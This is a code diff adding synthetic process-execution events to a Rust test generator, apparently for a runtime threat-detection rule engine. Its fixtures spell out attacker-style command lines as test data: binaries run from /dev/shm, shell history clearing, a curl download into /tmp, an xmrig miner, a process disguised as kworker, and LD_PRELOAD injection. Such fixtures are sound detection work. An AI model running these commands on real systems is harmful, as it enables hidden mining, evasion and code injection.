@@ -87,6 +87,56 @@ fn generated() -> Vec<Event> {
             }
         }
     }
+    // Exec events for the literal gates on proc.exe, proc.exepath, proc.cwd and
+    // proc.cmdline (arguments split across argv entries, odd cwd forms).
+    let execs = [
+        ("sh", "/bin/sh", vec!["sh", "-c", "/dev/shm/x"], "/"),
+        ("x", "/dev/shm/x", vec!["/dev/shm/x"], "/"),
+        ("x", "/dev/shm/x", vec!["./x"], "/dev/shm"),
+        ("x", "/dev/shm/x", vec!["./x"], "/dev/shm/"),
+        (
+            "python3",
+            "/usr/bin/python3",
+            vec!["python3", "./run.py"],
+            "/dev/shm",
+        ),
+        (
+            "bash",
+            "/bin/bash",
+            vec!["bash", "-c", "history", "-c"],
+            "/root",
+        ),
+        (
+            "curl",
+            "/usr/bin/curl",
+            vec!["curl", "-o", "/tmp/x", "http://h/x"],
+            "/tmp",
+        ),
+        (
+            "xmrig",
+            "/tmp/xmrig",
+            vec!["xmrig", "--donate-level", "1"],
+            "/tmp/",
+        ),
+        ("kworker/0:1", "/var/tmp/k", vec!["kworker/0:1"], "/var/tmp"),
+        (
+            "bash",
+            "/bin/bash",
+            vec!["bash", "-c", "LD_PRELOAD=/tmp/x.so id"],
+            "/",
+        ),
+    ];
+    for (comm, exe, argv, cwd) in execs {
+        let snippet = serde_json::json!({
+            "kind": "exec",
+            "process": {"comm": comm, "exe": exe, "argv": argv, "cwd": cwd},
+            "container": {"type": "container", "id": "0123456789ab0123456789ab", "name": "app", "image": "nginx:1", "image_repository": "nginx"},
+            "data": {"filename": exe},
+        });
+        if let Ok(ev) = build_event(&snippet) {
+            out.push(ev);
+        }
+    }
     out
 }
 
